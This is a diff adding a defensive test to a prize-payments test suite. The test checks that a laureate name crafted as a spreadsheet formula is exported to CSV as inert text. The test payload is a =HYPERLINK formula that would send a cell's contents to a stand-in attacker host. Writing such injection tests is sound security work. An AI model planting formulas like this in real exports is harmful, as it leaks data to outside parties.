@@ -1,6 +1,8 @@
 """Prize payments: bank details encrypted, masked and read only by finance (every read logged),
 the four-eyes path, and the bank file checked against the ISO 20022 schema."""
 
+import csv
+import io
 from datetime import date
 from decimal import Decimal
 
@@ -227,6 +229,20 @@ def test_the_csv_shows_masked_accounts_only(laureate, staff_client):
 
     assert "SE •••• 7466" in body
     assert IBAN not in body
+
+
+def test_a_laureate_name_reaches_the_prize_list_as_text(laureate, staff_client):
+    formula = '=HYPERLINK("http://evil.example/?leak="&B2,"Open")'
+    laureate.candidate.name = formula
+    laureate.candidate.save(update_fields=["name"])
+    reader = finance("f1@example.org")
+    services.request_payment(laureate, actor=reader)
+
+    response = staff_client.get(reverse("laureates:payments_csv"))
+
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+    assert rows[1][1] == "'" + formula
+    assert response["Cache-Control"] == "no-store, private"
 
 
 def test_staff_see_masked_details_and_cannot_reveal_them(laureate, staff_client):
